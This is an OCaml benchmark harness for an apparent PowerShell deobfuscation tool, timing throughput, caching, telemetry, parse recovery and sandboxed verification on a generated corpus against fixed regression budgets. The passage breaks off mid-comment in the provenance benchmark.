(* Benchmark and experiment harness.

   One target per table/figure of the paper:
     table1 table2 fig5 fig6 table3 table4 table5 case ablate
     throughput obs resilience verify provenance serve selfheal micro
   No argument runs everything except throughput (the parallel-batch
   scaling run, writes BENCH_batch.json), serve (the live-daemon
   throughput/overload run, writes BENCH_serve.json) and micro (the
   Bechamel suite) — each takes a while on its own.  obs (in the default run,
   writes BENCH_obs.json) measures telemetry overhead and exits
   non-zero if the disabled path costs more than 5%.  resilience (in
   the default run, writes BENCH_resilience.json) measures how much of
   a truncated corpus partial-parse recovery salvages and what the
   disabled chaos probes cost, with the same 5% budget.  verify (in
   the default run, writes BENCH_verify.json) measures the semantic
   gate's batch overhead against a 25% budget and fails on any
   unrepaired divergence.  provenance (in the default run, writes
   BENCH_provenance.json) drives the dynamic-only corpus through the
   recover.dynamic stage — majority recovery, zero unrepaired
   divergences, and a 1% budget on the disabled recorder hook.
   selfheal (in the default run, writes
   BENCH_selfheal.json) drives the supervision plane — wedge-injection
   MTTR against a deadline + 2x grace budget, flood survival under
   memory chaos, quarantine convergence on a seeded bad-rule corpus —
   and fails on any unanswered request or missed gate. *)

let line () = print_endline (String.make 78 '-')

let run_table1 () =
  line ();
  Experiments.Table1.print (Experiments.Table1.run ())

let run_table2 () =
  line ();
  Experiments.Table2.print (Experiments.Table2.run ())

let shared_set = lazy (Experiments.Effectiveness.make_samples ())

let run_fig5 () =
  line ();
  Experiments.Effectiveness.print_fig5
    (Experiments.Effectiveness.run_fig5 (Lazy.force shared_set))

let run_fig6 () =
  line ();
  Experiments.Effectiveness.print_fig6
    (Experiments.Effectiveness.run_fig6 (Lazy.force shared_set))

let run_table3 () =
  line ();
  Experiments.Table3.print (Experiments.Table3.run ())

let run_table4 () =
  line ();
  Experiments.Table4.print (Experiments.Table4.run (Lazy.force shared_set))

let run_table5 () =
  line ();
  Experiments.Table5.print (Experiments.Table5.run ())

let run_case () =
  line ();
  Experiments.Case_study.print ()

let run_ablate () =
  line ();
  Experiments.Ablation.print (Experiments.Ablation.run ())

let run_amsi () =
  line ();
  Experiments.Amsi_compare.print
    (Experiments.Amsi_compare.run (Lazy.force shared_set))

let run_unknown () =
  line ();
  Experiments.Unknown_techniques.print (Experiments.Unknown_techniques.run ())

let run_limits () =
  line ();
  Experiments.Limitations.print (Experiments.Limitations.run ())

let run_funnel () =
  line ();
  Experiments.Preprocess_stats.print (Experiments.Preprocess_stats.run ())

(* ---------- batch throughput (domain-pool scaling) ---------- *)

(* the recovery-phase wall total this suite measured before the cross-file
   piece cache landed — the regression anchor for the 5x gate below *)
let baseline_recovery_ms = 883.7

let run_throughput () =
  line ();
  let module Guard = Pscommon.Guard in
  let module Snapshot = Deobf.Snapshot in
  let count = 64 in
  let seed = 42 in
  let repeats = 5 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_batch" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  (* ask for at least 4 so the domain-pool path is exercised where the
     cores exist; run_files clamps to the detected cores and reports both
     levels, so on a small box this is an honest sequential run *)
  let cores = Domain.recommended_domain_count () in
  let jobs_n = max 4 (Pscommon.Pool.recommended_jobs ()) in
  let run ?options ?piece_cache_dir ~jobs tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    let t0 = Guard.now () in
    let summary =
      Deobf.Batch.run_files ?options ~timeout_s:30.0 ~out_dir ~jobs
        ?piece_cache_dir files
    in
    let wall_s = Guard.now () -. t0 in
    (Deobf.Batch.snapshot summary, out_dir, wall_s)
  in
  (* one 0.1-0.3 s run swings with the machine's fast/slow phase: each
     level gets one warm-up and [repeats] timed runs, and the gates read
     the medians *)
  let timed ~jobs tag =
    ignore (run ~jobs tag);
    List.init repeats (fun _ -> run ~jobs tag)
  in
  let median xs = List.nth (List.sort compare xs) (List.length xs / 2) in
  let wall (_, _, w) = w in
  (* batch snapshots always carry the run block *)
  let run_of (snap : Snapshot.t) = Option.get snap.Snapshot.run in
  let recovery_ms (snap, _, _) =
    Option.value ~default:0.0
      (List.assoc_opt "recovery" (run_of snap).Snapshot.phase_ms_total)
  in
  Printf.printf
    "batch throughput: %d samples (seed %d), jobs 1 vs %d (1 warm-up + %d \
     repeats each), cache on/off/persistent\n"
    count seed jobs_n repeats;
  let runs1 = timed ~jobs:1 "j1" in
  let runsn = timed ~jobs:jobs_n "jN" in
  let wall1 = median (List.map wall runs1) in
  let walln = median (List.map wall runsn) in
  (* the jobs-N run with the median recovery time stands for the level *)
  let recovery_ms_med = median (List.map recovery_ms runsn) in
  let sn, outn, _ = List.find (fun r -> recovery_ms r = recovery_ms_med) runsn in
  let _, out1, _ = List.hd runs1 in
  (* the same corpus with the piece cache ablated off, and with the
     persistent tier cold then warm: all four output sets must be
     byte-identical to the jobs=1 run *)
  let no_cache_options =
    { Deobf.Engine.default_options with
      recovery =
        { Deobf.Recover.default_options with
          Deobf.Recover.use_piece_cache = false } }
  in
  let _, out_off, _ = run ~options:no_cache_options ~jobs:1 "nocache" in
  let piece_cache_dir = Filename.concat dir "piece-cache" in
  let _, out_cold, _ = run ~piece_cache_dir ~jobs:1 "cold" in
  let s_warm, out_warm, _ = run ~piece_cache_dir ~jobs:1 "warm" in
  let identical_to out1 d2 =
    List.for_all
      (fun file ->
        let base = Filename.basename file in
        let read d =
          In_channel.with_open_bin (Filename.concat d base) In_channel.input_all
        in
        String.equal (read out1) (read d2))
      files
  in
  let id_jobs = identical_to out1 outn in
  let id_cache_off = identical_to out1 out_off in
  let id_cold = identical_to out1 out_cold in
  let id_warm = identical_to out1 out_warm in
  let identical = id_jobs && id_cache_off && id_cold && id_warm in
  let attempted = sn.Snapshot.pieces.Deobf.Recover.pieces_attempted in
  let hits = sn.Snapshot.pieces.Deobf.Recover.cache_hits in
  (* hit rates are cache hits / cache lookups, as in every snapshot; the
     warm persistent run is where the cache earns its keep *)
  let in_run_hit_rate = Snapshot.hit_rate sn in
  let warm_hit_rate = Snapshot.hit_rate s_warm in
  (* batch-scale: every lookup the shared caches answered across the
     one-shot and warm runs, hit or miss *)
  let cache_hit_rate =
    let pick f = f sn.Snapshot.cache + f s_warm.Snapshot.cache in
    let lookups = pick (fun cs -> cs.Deobf.Recover.Cache.lookups) in
    let h = pick (fun cs -> cs.Deobf.Recover.Cache.hits) in
    if lookups = 0 then 0.0 else float_of_int h /. float_of_int lookups
  in
  let persistent_loads =
    s_warm.Snapshot.cache.Deobf.Recover.Cache.persistent_loads
  in
  let phase_totals = (run_of sn).Snapshot.phase_ms_total in
  let recovery_speedup =
    if recovery_ms_med > 0.0 then baseline_recovery_ms /. recovery_ms_med
    else 0.0
  in
  let pieces_per_s =
    if recovery_ms_med > 0.0 then
      float_of_int attempted /. (recovery_ms_med /. 1000.0)
    else 0.0
  in
  let speedup = if walln > 0.0 then wall1 /. walln else 0.0 in
  let floats fmt xs =
    String.concat ", " (List.map (fun x -> Printf.sprintf fmt x) xs)
  in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"jobs\": %d," jobs_n;
        Printf.sprintf "  \"jobs_effective\": %d,"
          (run_of sn).Snapshot.jobs_effective;
        Printf.sprintf "  \"cores\": %d," cores;
        Printf.sprintf "  \"repeats\": %d," repeats;
        Printf.sprintf "  \"wall_s_jobs1\": %.3f," wall1;
        Printf.sprintf "  \"wall_s_jobsN\": %.3f," walln;
        Printf.sprintf "  \"wall_s_jobs1_runs\": [%s],"
          (floats "%.3f" (List.map wall runs1));
        Printf.sprintf "  \"wall_s_jobsN_runs\": [%s],"
          (floats "%.3f" (List.map wall runsn));
        Printf.sprintf "  \"samples_per_s_jobs1\": %.2f,"
          (float_of_int count /. wall1);
        Printf.sprintf "  \"samples_per_s_jobsN\": %.2f,"
          (float_of_int count /. walln);
        Printf.sprintf "  \"speedup\": %.2f," speedup;
        Printf.sprintf "  \"outputs_identical\": %b," identical;
        Printf.sprintf
          "  \"outputs_identical_detail\": {\"jobs\": %b, \"cache_off\": %b, \
           \"persistent_cold\": %b, \"persistent_warm\": %b},"
          id_jobs id_cache_off id_cold id_warm;
        Printf.sprintf "  \"pieces_attempted\": %d," attempted;
        Printf.sprintf "  \"cache_hits\": %d," hits;
        Printf.sprintf "  \"cache_hit_rate\": %.3f," cache_hit_rate;
        Printf.sprintf "  \"in_run_hit_rate\": %.3f," in_run_hit_rate;
        Printf.sprintf "  \"warm_hit_rate\": %.3f," warm_hit_rate;
        Printf.sprintf "  \"persistent_loads\": %d," persistent_loads;
        Printf.sprintf "  \"recovery_ms\": %.1f," recovery_ms_med;
        Printf.sprintf "  \"recovery_ms_runs\": [%s],"
          (floats "%.1f" (List.map recovery_ms runsn));
        Printf.sprintf "  \"baseline_recovery_ms\": %.1f," baseline_recovery_ms;
        Printf.sprintf "  \"recovery_speedup\": %.1f," recovery_speedup;
        Printf.sprintf "  \"pieces_per_s\": %.0f," pieces_per_s;
        Printf.sprintf "  \"phase_ms\": {%s},"
          (String.concat ", "
             (List.map
                (fun (p, ms) -> Printf.sprintf "\"%s\": %.1f" p ms)
                phase_totals));
        Printf.sprintf "  \"clean\": %d," (run_of sn).Snapshot.clean;
        Printf.sprintf "  \"degraded\": %d" (run_of sn).Snapshot.degraded;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_batch.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  jobs=1: median %.2fs (%.1f samples/s)\n  jobs=%d (effective %d): \
     median %.2fs (%.1f samples/s)\n"
    wall1
    (float_of_int count /. wall1)
    jobs_n (run_of sn).Snapshot.jobs_effective walln
    (float_of_int count /. walln);
  Printf.printf "  speedup: %.2fx, outputs identical: %b\n" speedup identical;
  Printf.printf
    "  cache: %d hits / %d pieces attempted in-run, hit rate (hits/lookups) \
     in-run %.1f%%, warm re-run %.1f%%, batch-scale %.1f%%, %d persistent \
     loads\n"
    hits attempted (100.0 *. in_run_hit_rate) (100.0 *. warm_hit_rate)
    (100.0 *. cache_hit_rate) persistent_loads;
  Printf.printf
    "  recovery: median %.1f ms (baseline %.1f ms, %.1fx), %.0f pieces/s\n"
    recovery_ms_med baseline_recovery_ms recovery_speedup pieces_per_s;
  List.iter
    (fun (p, ms) -> Printf.printf "  phase %-10s %8.1f ms\n" p ms)
    phase_totals;
  print_endline "  wrote BENCH_batch.json";
  (* the speedup gate is meaningless where there is no parallelism to buy:
     skip it (loudly) on a single core rather than fail on an honest ~1x *)
  if cores <= 1 then
    Printf.printf
      "  speedup gate skipped: single core (recommended_domain_count = %d)\n"
      cores
  else if speedup < 1.2 then begin
    Printf.eprintf
      "FAIL: jobs=%d median speedup %.2fx below the 1.2x floor on %d cores\n"
      jobs_n speedup cores;
    exit 1
  end;
  if not identical then begin
    Printf.eprintf
      "FAIL: outputs differ (jobs %b, cache off %b, cold %b, warm %b)\n"
      id_jobs id_cache_off id_cold id_warm;
    exit 1
  end;
  if recovery_speedup < 5.0 then begin
    Printf.eprintf
      "FAIL: median recovery %.1f ms is only %.1fx the %.1f ms baseline (5x \
       floor)\n"
      recovery_ms_med recovery_speedup baseline_recovery_ms;
    exit 1
  end;
  if pieces_per_s < 2_000.0 then begin
    Printf.eprintf
      "FAIL: recovery throughput %.0f pieces/s below the 2000/s floor\n"
      pieces_per_s;
    exit 1
  end;
  if cache_hit_rate <= 0.5 then begin
    Printf.eprintf
      "FAIL: batch-scale cache hit rate %.3f not above 0.50\n" cache_hit_rate;
    exit 1
  end;
  if persistent_loads = 0 then begin
    Printf.eprintf "FAIL: warm run answered no lookups from the persistent tier\n";
    exit 1
  end

(* ---------- telemetry overhead (observability) ---------- *)

(* Measures the two costs of the telemetry layer on a fixed-seed corpus:
   the *enabled* cost (tracing every file vs not tracing) and the
   *disabled* cost (what instrumented call sites cost when no trace is
   installed — the path every production run without --trace takes).  The
   disabled overhead is estimated as events-per-sample x per-call cost
   against the per-sample wall time, and the run fails loudly if it
   exceeds 5% — the regression budget for instrumenting hot paths. *)
let run_obs () =
  line ();
  let module T = Pscommon.Telemetry in
  let module Guard = Pscommon.Guard in
  let count = 48 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_obs" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf "telemetry overhead: %d samples (seed %d)\n" count seed;
  let run ?trace_dir ?trace_sample tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    let t0 = Guard.now () in
    let summary =
      Deobf.Batch.run_files ~timeout_s:30.0 ~out_dir ?trace_dir ?trace_sample
        ~jobs:1 files
    in
    ignore summary;
    (out_dir, Guard.now () -. t0)
  in
  let out_plain, wall_plain = run "plain" in
  let trace_dir = Filename.concat dir "traces" in
  let out_traced, wall_traced = run ~trace_dir "traced" in
  (* sampled tracing: every 8th file serializes its trace; the rest record
     into a reusable per-domain scratch ring and skip JSONL entirely *)
  let trace_sample = 8 in
  let _out_sampled, wall_sampled =
    run ~trace_dir:(Filename.concat dir "traces_sampled") ~trace_sample
      "sampled"
  in
  let identical =
    List.for_all
      (fun file ->
        let base = Filename.basename file in
        let read d =
          In_channel.with_open_bin (Filename.concat d base) In_channel.input_all
        in
        String.equal (read out_plain) (read out_traced))
      files
  in
  (* total events across the run, from each trace's summary line *)
  let summary_events path =
    try
      In_channel.with_open_bin path @@ fun ic ->
      let text = In_channel.input_all ic in
      (* the trailing summary line:
         {"kind": "summary", "trace_id": ..., "events": N, ...} *)
      let marker = "\"summary\"" in
      let key = "\"events\": " in
      let klen = String.length key in
      let rec find ~armed i =
        if i + klen > String.length text then 0
        else if
          (not armed)
          && i + String.length marker <= String.length text
          && String.sub text i (String.length marker) = marker
        then find ~armed:true (i + String.length marker)
        else if armed && String.sub text i klen = key then
          let stop = ref (i + klen) in
          while
            !stop < String.length text
            && text.[!stop] >= '0'
            && text.[!stop] <= '9'
          do
            incr stop
          done;
          int_of_string (String.sub text (i + klen) (!stop - (i + klen)))
        else find ~armed (i + 1)
      in
      find ~armed:false 0
    with _ -> 0
  in
  let total_events =
    List.fold_left
      (fun acc file ->
        acc
        + summary_events
            (Filename.concat trace_dir (Filename.basename file ^ ".trace.jsonl")))
      0 files
  in
  let events_per_sample = float_of_int total_events /. float_of_int count in
  (* disabled fast path: cost of an instrumented call site with no ambient
     trace installed *)
  let calls = 1_000_000 in
  let t0 = Guard.now () in
  for _ = 1 to calls do
    T.event "bench.obs"
  done;
  let percall_ns = (Guard.now () -. t0) *. 1e9 /. float_of_int calls in
  (* the flight recorder rides the same call sites: disabled it adds one
     atomic load, enabled it records into the per-domain ring (still no
     serialization — that only happens at dump time) *)
  let flight_dir = Filename.concat dir "flight" in
  T.Flight.set_sink (Some flight_dir);
  let t0 = Guard.now () in
  for _ = 1 to calls do
    T.event "bench.obs"
  done;
  let flight_on_percall_ns =
    (Guard.now () -. t0) *. 1e9 /. float_of_int calls
  in
  T.Flight.set_sink None;
  let t0 = Guard.now () in
  for _ = 1 to calls do
    T.event "bench.obs"
  done;
  let flight_off_percall_ns =
    (Guard.now () -. t0) *. 1e9 /. float_of_int calls
  in
  (* scrape cost, with the registry warm from the batch runs above: what
     one GET /metrics pays to render the exposition (the endpoint's own
     socket I/O is negligible next to this) *)
  let scrapes = 200 in
  let t0 = Guard.now () in
  let body = ref "" in
  for _ = 1 to scrapes do
    body := T.render_prometheus ()
  done;
  let scrape_ms = (Guard.now () -. t0) *. 1000.0 /. float_of_int scrapes in
  let scrape_bytes = String.length !body in
  let per_sample_ns = wall_plain *. 1e9 /. float_of_int count in
  let disabled_overhead_pct =
    if per_sample_ns > 0.0 then
      100.0 *. (events_per_sample *. percall_ns) /. per_sample_ns
    else 0.0
  in
  let traced_overhead_pct =
    if wall_plain > 0.0 then
      100.0 *. (wall_traced -. wall_plain) /. wall_plain
    else 0.0
  in
  let sampled_overhead_pct =
    if wall_plain > 0.0 then
      100.0 *. (wall_sampled -. wall_plain) /. wall_plain
    else 0.0
  in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"wall_s_untraced\": %.3f," wall_plain;
        Printf.sprintf "  \"wall_s_traced\": %.3f," wall_traced;
        Printf.sprintf "  \"wall_s_sampled\": %.3f," wall_sampled;
        Printf.sprintf "  \"trace_sample\": %d," trace_sample;
        Printf.sprintf "  \"samples_per_s_untraced\": %.2f,"
          (float_of_int count /. wall_plain);
        Printf.sprintf "  \"samples_per_s_traced\": %.2f,"
          (float_of_int count /. wall_traced);
        Printf.sprintf "  \"outputs_identical\": %b," identical;
        Printf.sprintf "  \"events_total\": %d," total_events;
        Printf.sprintf "  \"events_per_sample\": %.1f," events_per_sample;
        Printf.sprintf "  \"disabled_percall_ns\": %.1f," percall_ns;
        Printf.sprintf "  \"disabled_overhead_pct\": %.3f,"
          disabled_overhead_pct;
        Printf.sprintf "  \"traced_overhead_pct\": %.1f," traced_overhead_pct;
        Printf.sprintf "  \"sampled_overhead_pct\": %.1f," sampled_overhead_pct;
        Printf.sprintf "  \"flight_disabled_percall_ns\": %.1f,"
          flight_off_percall_ns;
        Printf.sprintf "  \"flight_enabled_percall_ns\": %.1f,"
          flight_on_percall_ns;
        Printf.sprintf "  \"scrape_render_ms\": %.3f," scrape_ms;
        Printf.sprintf "  \"scrape_bytes\": %d" scrape_bytes;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_obs.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  untraced: %.2fs (%.1f samples/s)\n  traced:   %.2fs (%.1f samples/s, \
     +%.1f%%)\n"
    wall_plain
    (float_of_int count /. wall_plain)
    wall_traced
    (float_of_int count /. wall_traced)
    traced_overhead_pct;
  Printf.printf "  sampled (1/%d): %.2fs (%+.1f%%)\n" trace_sample wall_sampled
    sampled_overhead_pct;
  Printf.printf "  outputs identical: %b\n" identical;
  Printf.printf "  events: %d total, %.1f per sample\n" total_events
    events_per_sample;
  Printf.printf "  disabled path: %.1f ns/call, est. overhead %.3f%%\n"
    percall_ns disabled_overhead_pct;
  Printf.printf "  flight recorder: %.1f ns/call off, %.1f ns/call recording\n"
    flight_off_percall_ns flight_on_percall_ns;
  Printf.printf "  scrape render: %.3f ms, %d bytes\n" scrape_ms scrape_bytes;
  print_endline "  wrote BENCH_obs.json";
  if disabled_overhead_pct > 5.0 then begin
    Printf.eprintf
      "FAIL: disabled-telemetry overhead %.3f%% exceeds the 5%% budget\n"
      disabled_overhead_pct;
    exit 1
  end;
  if sampled_overhead_pct > 30.0 then begin
    Printf.eprintf
      "FAIL: sampled-tracing overhead %.1f%% exceeds the 30%% budget\n"
      sampled_overhead_pct;
    exit 1
  end

(* ---------- resilience (partial-parse recovery + chaos probes) ---------- *)

(* Two questions, on a fixed-seed corpus truncated at 25/50/75%: how much
   of the text that an all-or-nothing parser would forfeit does
   partial-parse recovery salvage (recovered-bytes ratio, majority-recovery
   rate), and what do the chaos probe points cost when injection is
   disabled — the path every production run takes.  Fails loudly when the
   disabled-probe overhead exceeds 5% of per-sample wall time, or when
   fewer than half of the parse-failed files at the 50% cut recover a
   region — the same enforce-in-CI shape as the telemetry bench. *)
let run_resilience () =
  line ();
  let module Guard = Pscommon.Guard in
  let module Chaos = Pscommon.Chaos in
  let count = 32 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  Printf.printf "resilience: %d samples (seed %d), truncated at 25/50/75%%\n"
    count seed;
  let level frac =
    let failed_bytes = ref 0 and parseable_bytes = ref 0 in
    let parse_failed = ref 0 and recovered = ref 0 in
    let t0 = Guard.now () in
    List.iter
      (fun (s : Corpus.Generator.sample) ->
        let src = Chaos.Mutate.truncate_at frac s.obfuscated in
        let g = Deobf.Engine.run_guarded ~timeout_s:10.0 src in
        let parse_failure =
          List.exists
            (fun (f : Deobf.Engine.failure_site) ->
              f.Deobf.Engine.phase = "parse")
            g.Deobf.Engine.failures
        in
        if parse_failure then begin
          incr parse_failed;
          failed_bytes := !failed_bytes + String.length src;
          parseable_bytes :=
            !parseable_bytes
            + Psparse.Segment.parseable_bytes (Psparse.Segment.segment src);
          if g.Deobf.Engine.regions_recovered >= 1 then incr recovered
        end)
      samples;
    let wall = Guard.now () -. t0 in
    let ratio =
      if !failed_bytes = 0 then 0.0
      else float_of_int !parseable_bytes /. float_of_int !failed_bytes
    in
    (frac, !parse_failed, !recovered, ratio, wall)
  in
  let levels = List.map level [ 0.25; 0.5; 0.75 ] in
  List.iter
    (fun (frac, failed, recov, ratio, wall) ->
      Printf.printf
        "  cut %.0f%%: %d/%d parse-failed, %d recovered >=1 region, %.1f%% \
         of bytes salvageable (%.2fs)\n"
        (100.0 *. frac) failed count recov (100.0 *. ratio) wall)
    levels;
  (* disabled fast path: one atomic load and a comparison per probe *)
  Chaos.set None;
  let calls = 1_000_000 in
  let t0 = Guard.now () in
  for _ = 1 to calls do
    Chaos.probe "bench.resilience"
  done;
  let percall_ns = (Guard.now () -. t0) *. 1e9 /. float_of_int calls in
  (* probes per sample: a rate-zero config reaches the enabled slow path
     (and the draws counter) at every probe without ever injecting *)
  Chaos.set (Some { Chaos.seed = 1; rate = 0.0; site_rates = [] });
  Chaos.reset_draws ();
  let t0 = Guard.now () in
  List.iter
    (fun (s : Corpus.Generator.sample) ->
      ignore (Deobf.Engine.run_guarded ~timeout_s:10.0 s.obfuscated))
    samples;
  let wall_clean = Guard.now () -. t0 in
  Chaos.set None;
  let probes_total = Chaos.draws () in
  let probes_per_sample = float_of_int probes_total /. float_of_int count in
  let per_sample_ns = wall_clean *. 1e9 /. float_of_int count in
  let disabled_overhead_pct =
    if per_sample_ns > 0.0 then
      100.0 *. (probes_per_sample *. percall_ns) /. per_sample_ns
    else 0.0
  in
  let majority_at_half =
    match levels with
    | [ _; (_, failed, recov, _, _); _ ] -> failed = 0 || 2 * recov > failed
    | _ -> false
  in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"levels\": [%s],"
          (String.concat ", "
             (List.map
                (fun (frac, failed, recov, ratio, wall) ->
                  Printf.sprintf
                    "{\"cut\": %.2f, \"parse_failed\": %d, \"recovered\": \
                     %d, \"salvageable_bytes_ratio\": %.3f, \"wall_s\": %.3f}"
                    frac failed recov ratio wall)
                levels));
        Printf.sprintf "  \"majority_recovered_at_half\": %b," majority_at_half;
        Printf.sprintf "  \"probes_per_sample\": %.1f," probes_per_sample;
        Printf.sprintf "  \"disabled_percall_ns\": %.1f," percall_ns;
        Printf.sprintf "  \"disabled_overhead_pct\": %.3f" disabled_overhead_pct;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_resilience.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf "  probes: %.1f per sample, disabled path %.1f ns/call, est. \
                 overhead %.3f%%\n"
    probes_per_sample percall_ns disabled_overhead_pct;
  print_endline "  wrote BENCH_resilience.json";
  if disabled_overhead_pct > 5.0 then begin
    Printf.eprintf
      "FAIL: disabled-chaos overhead %.3f%% exceeds the 5%% budget\n"
      disabled_overhead_pct;
    exit 1
  end;
  if not majority_at_half then begin
    Printf.eprintf
      "FAIL: fewer than half of parse-failed files recovered a region at \
       the 50%% cut\n";
    exit 1
  end

(* ---------- semantic-verification overhead (the --verify gate) ---------- *)

(* What does the differential gate cost on the corpus a batch run actually
   processes, and does it hold its own contract?  Runs the fixed-seed
   corpus through the batch pipeline with verification off and on,
   reporting samples/s for both, the verdict histogram, and the rollback
   rate.

   Two costs are kept apart.  Differential verification irreducibly
   executes the original and the output once each in the sandbox — that is
   the price of admission, measured directly and reported as
   [reference_runs_s] (on interpreted micro-samples it is comparable to
   deobfuscation itself, so raw [overhead_pct] lands well above any small
   budget).  Everything the gate adds {e beyond} those two executions —
   journal bookkeeping, log comparison, bisection replays, rollback
   re-runs, verdict plumbing — is the machinery this bench regresses on:
   [gate_overhead_pct], budgeted at 25% of the unverified wall.  Fails
   loudly when the machinery exceeds that budget, or when any sample ends
   [diverged] — a divergence the bisection could not repair means either an
   engine rewrite or the gate itself regressed. *)
let run_verify () =
  line ();
  let module Guard = Pscommon.Guard in
  let count = 32 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_verify" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf "semantic verification: %d samples (seed %d), gate off vs on\n"
    count seed;
  let run ~verify tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    (* best of 3: these walls are tens of milliseconds, where a single GC
       major slice or scheduler blip reads as tens of percent *)
    let best = ref infinity and last = ref None in
    for rep = 1 to 3 do
      let t0 = Guard.now () in
      let summary =
        Deobf.Batch.run_files ~timeout_s:30.0
          ~out_dir:(Printf.sprintf "%s_r%d" out_dir rep) ~jobs:1 ~verify files
      in
      let wall = Guard.now () -. t0 in
      if wall < !best then best := wall;
      last := Some summary
    done;
    (Option.get !last, !best)
  in
  let _s_off, wall_off = run ~verify:false "plain" in
  let s_on, wall_on = run ~verify:true "verified" in
  (* the irreducible reference executions, mirrored outside the gate: for
     every file the gate actually verified (output differs from the
     input), one sandbox run of each side *)
  let reference_runs_s =
    let t0 = Guard.now () in
    List.iter
      (fun (o : Deobf.Batch.outcome) ->
        match o.Deobf.Batch.output_file with
        | Some out_file when o.Deobf.Batch.changed ->
            let read p = In_channel.with_open_bin p In_channel.input_all in
            ignore (Sandbox.run_for_verify (read o.Deobf.Batch.file));
            ignore (Sandbox.run_for_verify (read out_file))
        | _ -> ())
      s_on.Deobf.Batch.outcomes;
    Guard.now () -. t0
  in
  let tally v =
    List.length
      (List.filter
         (fun (o : Deobf.Batch.outcome) ->
           match o.Deobf.Batch.verdict with
           | Some verdict -> Deobf.Verify.verdict_name verdict = v
           | None -> false)
         s_on.Deobf.Batch.outcomes)
  in
  let equivalent = tally "equivalent" in
  let rolled_back = tally "rolled_back" in
  let diverged = tally "diverged" in
  let unverifiable = tally "unverifiable" in
  let rollback_rate = float_of_int rolled_back /. float_of_int count in
  let overhead_pct =
    if wall_off > 0.0 then 100.0 *. (wall_on -. wall_off) /. wall_off else 0.0
  in
  let gate_overhead_pct =
    if wall_off > 0.0 then
      Float.max 0.0
        (100.0 *. (wall_on -. wall_off -. reference_runs_s) /. wall_off)
    else 0.0
  in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"wall_s_unverified\": %.3f," wall_off;
        Printf.sprintf "  \"wall_s_verified\": %.3f," wall_on;
        Printf.sprintf "  \"samples_per_s_unverified\": %.2f,"
          (float_of_int count /. wall_off);
        Printf.sprintf "  \"samples_per_s_verified\": %.2f,"
          (float_of_int count /. wall_on);
        Printf.sprintf "  \"overhead_pct\": %.1f," overhead_pct;
        Printf.sprintf "  \"reference_runs_s\": %.3f," reference_runs_s;
        Printf.sprintf "  \"gate_overhead_pct\": %.1f," gate_overhead_pct;
        Printf.sprintf
          "  \"verdicts\": {\"equivalent\": %d, \"rolled_back\": %d, \
           \"diverged\": %d, \"unverifiable\": %d},"
          equivalent rolled_back diverged unverifiable;
        Printf.sprintf "  \"rollback_rate\": %.3f" rollback_rate;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_verify.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  unverified: %.2fs (%.1f samples/s)\n  verified:   %.2fs (%.1f \
     samples/s, +%.1f%% raw)\n"
    wall_off
    (float_of_int count /. wall_off)
    wall_on
    (float_of_int count /. wall_on)
    overhead_pct;
  Printf.printf
    "  reference executions: %.2fs; gate machinery beyond them: +%.1f%%\n"
    reference_runs_s gate_overhead_pct;
  Printf.printf
    "  verdicts: %d equivalent, %d rolled_back, %d diverged, %d \
     unverifiable (rollback rate %.1f%%)\n"
    equivalent rolled_back diverged unverifiable (100.0 *. rollback_rate);
  print_endline "  wrote BENCH_verify.json";
  if gate_overhead_pct > 25.0 then begin
    Printf.eprintf
      "FAIL: gate-machinery overhead %.1f%% exceeds the 25%% budget\n"
      gate_overhead_pct;
    exit 1
  end;
  if diverged > 0 then begin
    Printf.eprintf
      "FAIL: %d sample(s) diverged without a successful rollback\n" diverged;
    exit 1
  end

(* ---------- dynamic value provenance (the recover.dynamic stage) ---------- *)

(* Does the provenance-guided dynamic stage actually recover what static
   tracing cannot, and what does carrying it cost?  The corpus is
   dynamic-only: every sample hides its payload behind a loop-built
   string, a [+=]/[-join] accumulator, or a conditional payload pick —
   shapes Algorithm 1 refuses to trace.  Three gates, each fatal:
   {ul
   {- a majority of the rows must be folded by the dynamic stage
      ([dynamic_recovered >= 1]);}
   {- with the semantic gate on, no row may end [diverged] — every
      dynamic substitution is either proven equivalent or rolled back;}
   {- the disabled path — the per-write recorder hook every evaluation
      pays when [use_dynamic] is off — must cost under 1% of the static
